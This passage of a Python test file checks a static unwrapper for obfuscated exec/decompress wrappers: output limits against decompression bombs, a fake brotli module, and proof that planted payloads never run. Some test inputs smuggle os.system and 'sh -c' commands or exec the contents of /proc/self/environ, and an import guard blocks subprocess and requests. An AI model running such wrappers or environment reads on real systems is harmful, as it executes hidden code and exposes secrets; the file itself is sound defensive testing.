        unwrap(ENTRY, wrapper, no_siblings, max_output_bytes=1 << 20)
    ok = make_wrapper(TRAIN_SNIPPET)
    assert unwrap(ENTRY, ok, no_siblings, max_output_bytes=4 << 10).source == TRAIN_SNIPPET


def test_budget_is_shared_by_nested_layers():
    text = TRAIN_SNIPPET
    for _ in range(3):
        text = make_wrapper(text, codec="zlib+b64")
    # each layer decodes base64 then zlib; three layers together need more than one snippet
    with pytest.raises(UnwrapError, match="decoded output exceeds"):
        unwrap(ENTRY, text, no_siblings, max_output_bytes=len(SNIPPET_BYTES) + 100)


# ---------------------------------------------------------------------------------------
# Brotli


class _FakeBrotli:
    """Stands in for the brotli module: raw deflate behind brotli's Decompressor API."""

    error = ValueError

    def __init__(self, bounded: bool):
        self.bounded = bounded

    @staticmethod
    def compress(data: bytes) -> bytes:
        compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
        return compressor.compress(data) + compressor.flush()

    def Decompressor(self):
        fake = self

        class Decompressor:
            def __init__(self):
                self._inner = zlib.decompressobj(-15)
                self._pending = b""

            def process(self, data, **kwargs):
                if kwargs and not fake.bounded:
                    raise TypeError("process() takes no keyword arguments")
                limit = kwargs.get("max_output_length") or 0
                self._pending += data
                out = self._inner.decompress(self._pending, limit)
                self._pending = self._inner.unconsumed_tail
                return out

            def is_finished(self):
                return self._inner.eof

        return Decompressor()


def test_brotli_without_the_module_is_an_error(monkeypatch):
    monkeypatch.setattr(unwrap_module, "_load_brotli", lambda: None)
    wrapper = 'import brotli, base64\nexec(brotli.decompress(base64.b85decode("VPa!Q")))\n'
    with pytest.raises(UnwrapError, match="unsupported codec brotli"):
        unwrap(ENTRY, wrapper, no_siblings)


@pytest.mark.parametrize("bounded", [True, False])
def test_brotli_decoding_and_bomb(monkeypatch, bounded):
    fake = _FakeBrotli(bounded)
    monkeypatch.setattr(unwrap_module, "_load_brotli", lambda: fake)
    wrapper = make_wrapper(TRAIN_SNIPPET, codec="brotli+b85")
    result = unwrap(ENTRY, wrapper, no_siblings)
    assert result.source == TRAIN_SNIPPET and result.layers[0].description == "brotli + base85"
    bomb = b85(fake.compress(bytes(64 << 20)))
    with pytest.raises(UnwrapError, match="decoded output exceeds 1 MiB"):
        unwrap(ENTRY, f'import brotli, base64\nexec(brotli.decompress(base64.b85decode("{bomb}")))\n',
               no_siblings, max_output_bytes=1 << 20)


def test_a_shadowing_brotli_py_is_never_imported(tmp_path, monkeypatch):
    marker = tmp_path / "imported.marker"
    (tmp_path / "brotli.py").write_text(f"open({str(marker)!r}, 'w').write('imported')\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    monkeypatch.chdir(tmp_path)
    installed = unwrap_module._load_brotli()
    assert installed is None or not installed.__file__.startswith(str(tmp_path))
    wrapper = 'import brotli, base64\nexec(brotli.decompress(base64.b85decode("VPa!Q")))\n'
    with pytest.raises(UnwrapError):
        unwrap(ENTRY, wrapper, no_siblings)
    assert not marker.exists()
    loaded = sys.modules.get("brotli")
    assert loaded is None or not str(getattr(loaded, "__file__", "")).startswith(str(tmp_path))


# ---------------------------------------------------------------------------------------
# Nothing is ever executed


def test_planted_payloads_stay_inert(tmp_path, monkeypatch):
    marker = tmp_path / "payload_ran.marker"
    payload = (
        "import pathlib\n"
        f"pathlib.Path({str(marker)!r}).write_text('ran')\n"
        "import planted_payload_module\n"
        "raise SystemExit('payload executed')\n"
    )
    (tmp_path / "planted_payload_module.py").write_text(f"open({str(marker)!r}, 'w').write('imported')\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    monkeypatch.chdir(tmp_path)

    def refuse(*args, **kwargs):
        raise AssertionError("the unwrapper called exec/eval/compile")

    real_import = builtins.__import__

    def guarded_import(name, *args, **kwargs):
        if name.split(".")[0] in ("planted_payload_module", "subprocess", "requests"):
            raise AssertionError(f"the unwrapper imported {name}")
        return real_import(name, *args, **kwargs)

    monkeypatch.setattr(builtins, "exec", refuse)
    monkeypatch.setattr(builtins, "eval", refuse)
    monkeypatch.setattr(builtins, "compile", refuse)
    monkeypatch.setattr(builtins, "__import__", guarded_import)

    nested = make_wrapper(make_wrapper(payload, codec="zlib+b64"), codec="lzma-raw+b85")
    result = unwrap(ENTRY, nested, no_siblings)
    assert result.source == payload and len(result.layers) == 2

    outer_side_effects = [
        f'import lzma, base64\nexec(lzma.decompress(base64.b85decode(__import__("os").system("touch {marker}"))))\n',
        'import lzma, base64, subprocess\nexec(lzma.decompress(subprocess.check_output(["sh", "-c", "touch x"])))\n',
        'import lzma, base64\nexec(lzma.decompress(base64.b85decode("abc")), __import__("planted_payload_module").__dict__)\n',
        f'import lzma, base64\nexec(compile(lzma.decompress(base64.b85decode("{b85(lzma.compress(payload.encode()))}")), "x", "eval"))\n',
        'import base64\nexec(base64.b64decode(open("/proc/self/environ").read()))\n',
    ]
    for wrapper in outer_side_effects:
        with pytest.raises(UnwrapError):
            unwrap(ENTRY, wrapper, no_siblings)
    (tmp_path / ENTRY).write_text('import runpy\nrunpy.run_path("planted_payload_module.py")\n')
    assert unwrap_file(tmp_path / ENTRY).origin == "planted_payload_module.py"
    assert not marker.exists()
    assert "planted_payload_module" not in sys.modules


# ---------------------------------------------------------------------------------------
# Speed


def synthetic_training_source(blocks: int, seed: int = 0) -> str:
    """A long, realistic-looking and poorly compressible training script."""
    rng = random.Random(seed)
    parts = [TRAIN_SNIPPET.split("def main():")[0]]
    for i in range(blocks):
        dim = rng.choice([256, 384, 512, 640, 768])
        primes = ", ".join(str(rng.randrange(1 << 31)) for _ in range(24))
        parts.append(
            f"\n_HASH_PRIMES_{i} = ({primes})\n\n\n"
            f"def mixer_{i}_forward(x, w_in, w_out, gain={rng.uniform(0.1, 2):.6f}):\n"
            f'    """Gated mixer {i}: normalise, project to {dim * 2} features, gate back to {dim}."""\n'
            f"    h = x * torch.rsqrt(x.float().pow(2).mean(-1, keepdim=True) + {rng.choice(['1e-5', '1e-6'])}).to(x.dtype)\n"
            f"    u, g = F.linear(h, w_in).split({dim}, dim=-1)\n"
            f"    bucket = (x.argmax(-1) * _HASH_PRIMES_{i}[{rng.randrange(24)}]) % {rng.randrange(1000, 99999)}\n"
            f"    return x + gain * F.linear(u * torch.sigmoid(g), w_out), bucket\n"
        )
    return "".join(parts)


def test_unwrapping_a_60kb_wrapper_is_fast():
    source = synthetic_training_source(335)
    wrapper = make_wrapper(source)
    assert 50_000 < len(wrapper) < 70_000
    started = time.perf_counter()
    result = unwrap(ENTRY, wrapper, no_siblings)
    elapsed = time.perf_counter() - started
    assert result.source == source and result.module is not None
    assert elapsed < 10.0, f"{elapsed:.2f}s"
